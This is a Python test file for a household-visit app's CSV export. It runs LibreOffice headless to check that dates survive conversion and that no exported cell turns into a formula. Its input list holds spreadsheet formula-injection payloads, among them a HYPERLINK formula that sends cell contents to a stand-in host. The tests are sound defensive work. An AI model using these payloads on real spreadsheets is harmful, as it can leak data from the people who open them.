"""The CSV lists opened by a real spreadsheet (issue 16 §5): LibreOffice Calc converts them
to XLSX the way it opens them (en-US, as on the PC that swapped 352 of 947 dates), and
openpyxl reads the cells back: the dates are the right dates, no cell is a formula, even
when the file is split on the other separator (Excel with Indonesian settings opening a
comma file)."""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import date, datetime, time
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from cli_support import COORDINATOR, demo, sp
from factories import make_household_line, make_visit_line

from sp_desktop.core.documents.spreadsheets import (
    HOUSEHOLD_HEADERS,
    VISIT_HEADERS,
    write_csv,
    write_visits_csv,
)
from sp_desktop.core.domain.reports import HouseholdLine, VisitLine

pytestmark = pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (soffice) is missing"
)

# LibreOffice's CSV filter options: separator (44 ",", 59 ";"), text delimiter 34 ("),
# character set 76 (UTF-8), first line 1; the rest as a user who double-clicks gets them.
FILTER = {",": "CSV:44,34,76,1", ";": "CSV:59,34,76,1"}

NASTY = [
    '=HYPERLINK("http://contoh.invalid/?q="&A1;"Klik")',
    "Jl. A;+1+1",
    "Jl. A,+1+1",
    "Gang Melati, -2+3",
    "RT 3; @SUM(A1:A9)",
    'Jl. B;"=1+1"',
    "baris satu\r\n=1+1",
    "\t=1+1",
    "-",
]


def household(number: int, name: str) -> HouseholdLine:
    return make_household_line(
        number, head_name=name, kelurahan_label="Ampenan Selatan", address=name
    )


def visit(number: int, note: str) -> VisitLine:
    return make_visit_line(
        number,
        visited_at=datetime(2020, 3, number, 9, 15),
        failure_note=note,
        revisit_date=date(2020, 4, number),
        note=note,
        helper_name=note,
        head_name=note,
        kelurahan_label="Ampenan Selatan",
        address=note,
    )


def convert(csv_files: list[Path], separator: str, tmp_path: Path) -> list[Path]:
    """LibreOffice's own reading of `csv_files` split on `separator`, saved as XLSX."""
    out = tmp_path / f"lo-{ord(separator)}"
    profile = tmp_path / "lo-profil"  # its own profile: another soffice may be running
    result = subprocess.run(
        [
            "soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
            f"--infilter={FILTER[separator]}", "--convert-to", "xlsx", "--outdir", str(out),
            *map(str, csv_files),
        ],
        capture_output=True, text=True, timeout=180, check=False,
    )  # fmt: skip
    converted = [out / (path.stem + ".xlsx") for path in csv_files]
    assert all(path.exists() for path in converted), result.stdout + result.stderr
    return converted


def cells(path: Path) -> list[list[Any]]:
    workbook = openpyxl.load_workbook(path)
    try:
        sheet = workbook.active
        assert sheet is not None
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        return [[c.value for c in row] for row in sheet.iter_rows()]
    finally:
        workbook.close()


def as_date(value: Any) -> date:
    assert isinstance(value, datetime), value  # a real date cell, not text
    return value.date()


@pytest.mark.parametrize("separator", [",", ";"])
def test_libreoffice_reads_the_dates_right_and_runs_no_formula(
    tmp_path: Path, separator: str
) -> None:
    households = tmp_path / "rumah-tangga.csv"
    visits = tmp_path / "kunjungan.csv"
    write_csv(households, [household(n, t) for n, t in enumerate(NASTY, 1)], separator=separator)
    write_visits_csv(visits, [visit(n, t) for n, t in enumerate(NASTY, 1)], separator=separator)
    # Opened as written, then split on the other separator (formulas only checked there).
    sheet_h, sheet_v = (cells(p) for p in convert([households, visits], separator, tmp_path))
    other = ";" if separator == "," else ","
    for path in convert([households, visits], other, tmp_path):
        cells(path)

    assert sheet_h[0] == list(HOUSEHOLD_HEADERS)
    assert len(sheet_h) == len(NASTY) + 1
    last, revisit = HOUSEHOLD_HEADERS.index("Tanggal Kunjungan Terakhir"), 14
    for row in sheet_h[1:]:
        assert len([v for v in row if v is not None]) <= len(HOUSEHOLD_HEADERS)
        assert as_date(row[last]) == date(2020, 3, 2)
        assert as_date(row[revisit]) == date(2020, 3, 12)
    for number, row in enumerate(sheet_v[1:], 1):
        assert as_date(row[1]) == date(2020, 3, number)
        assert row[2] == time(9, 15)
        assert as_date(row[12]) == date(2020, 4, number)
    # The typed text is text, with the export's apostrophes.
    names = [row[HOUSEHOLD_HEADERS.index("Nama Kepala Keluarga")] for row in sheet_h[1:]]
    assert names[0] == "'" + NASTY[0] and names[1] == "Jl. A;'+1+1"
    assert names[-1] == "'-"


@pytest.mark.xfail(
    strict=True,
    reason="plain 16-digit numbers become number cells rounded to 15 digits in LibreOffice "
    "(and Excel): the CSV keeps NIK/No KK as plain digits for import tools; the XLSX is "
    "the file that keeps them as text",
)
def test_libreoffice_keeps_the_16_digits_as_text(tmp_path: Path) -> None:
    path = tmp_path / "rumah-tangga.csv"
    write_csv(path, [household(1, "Baiq Nurul Aini")], separator=";")
    (sheet,) = (cells(p) for p in convert([path], ";", tmp_path))
    assert sheet[1][1:3] == ["5271010101200001", "5271014507850001"]


def test_cli_export_csv_with_semicolons(tmp_path: Path) -> None:
    """`export csv --separator titik-koma` on demo data: every date LibreOffice reads is
    the date in the file (with DD/MM/YYYY, en-US swapped most of them)."""
    folder = tmp_path / "data"
    demo(folder, households=40)
    out = tmp_path / "kunjungan.csv"
    result = sp(
        "--data-dir", str(folder), "--user", COORDINATOR, "export", "csv", "--out", str(out),
        "--rows", "kunjungan", "--separator", "titik-koma",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8-sig", newline="") as src:
        rows = list(csv.reader(src, delimiter=";"))
    assert rows[0] == list(VISIT_HEADERS) and len(rows) > 10
    written = [date.fromisoformat(row[1]) for row in rows[1:]]
    assert any(day.day <= 12 and day.day != day.month for day in written)  # swappable ones
    (sheet,) = (cells(p) for p in convert([out], ";", tmp_path))
    assert [as_date(row[1]) for row in sheet[1:]] == written
    refused = sp(
        "--data-dir", str(folder), "--user", COORDINATOR, "export", "csv", "--out", str(out),
        "--separator", "tab",
    )  # fmt: skip
    assert refused.returncode == 2 and "titik-koma" in refused.stderr
